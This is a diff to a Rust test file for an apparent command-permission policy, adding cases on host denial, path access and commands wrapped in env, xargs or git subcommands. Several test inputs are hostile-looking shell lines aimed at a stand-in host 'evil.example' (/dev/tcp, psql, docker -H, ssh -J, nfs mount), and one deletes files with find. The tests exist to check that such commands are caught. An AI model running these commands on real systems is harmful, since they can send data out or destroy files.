@@ -102,6 +102,8 @@ fn pol_04_a_path_that_may_be_among_what_a_line_does_asks() {
         "tar czf a.tgz .",
         "find . -type f -delete",
         "find -exec cat {} +",
+        "ls | xargs cat",
+        "xargs cat < list",
     ];
     expect("path migrations/**", Answer::Ask, &lines);
     let patterns = ["cat migra*/1.sql", "cat */1.sql"];
@@ -148,6 +150,10 @@ fn pol_04_a_host_is_denied_wherever_a_line_names_it() {
             "python3 -c \"urllib.request.urlopen('http://evil.example')\"",
             "echo x > /dev/tcp/evil.example/80",
             "./fetch https://evil.example",
+            "psql -h evil.example",
+            "docker -H evil.example:2375 ps",
+            "ssh -Jevil.example a",
+            "mount -t nfs evil.example:/x /y",
         ],
     );
     expect(
@@ -179,12 +185,29 @@ fn pol_04_a_command_is_denied_wherever_it_is_handed_on() {
             "alias p='git push'",
             "watchexec -- git push",
             "hyperfine 'git push'",
+            // Behind a flag that is not known, which may have a value.
+            "env -C sub git push",
+            "env -iu A git push",
+            "/usr/bin/time -f x git push",
+            "xargs --max-args 1 git push",
+            "script -q /dev/null git push",
+            "fd . -X git push",
+            // Subcommands that are given a command.
+            "git submodule foreach 'git push'",
+            "git bisect run git push",
+            "git rebase --exec 'git push' HEAD~1",
         ],
     );
     expect(
         "command git push",
         Answer::Ask,
-        &["git $X", "$X push", "git \"$X\" origin"],
+        &[
+            "git $X",
+            "$X push",
+            "git \"$X\" origin",
+            "echo push | xargs git",
+            "xargs git < f",
+        ],
     );
     expect(
         "command git push",
@@ -195,6 +218,11 @@ fn pol_04_a_command_is_denied_wherever_it_is_handed_on() {
             "ssh h git fetch",
             "cargo $X",
             "echo git push",
+            "env -u X git fetch",
+            "git rebase main",
+            "git submodule update",
+            "git commit -m 'git push'",
+            "ls | xargs cat",
         ],
     );
 }
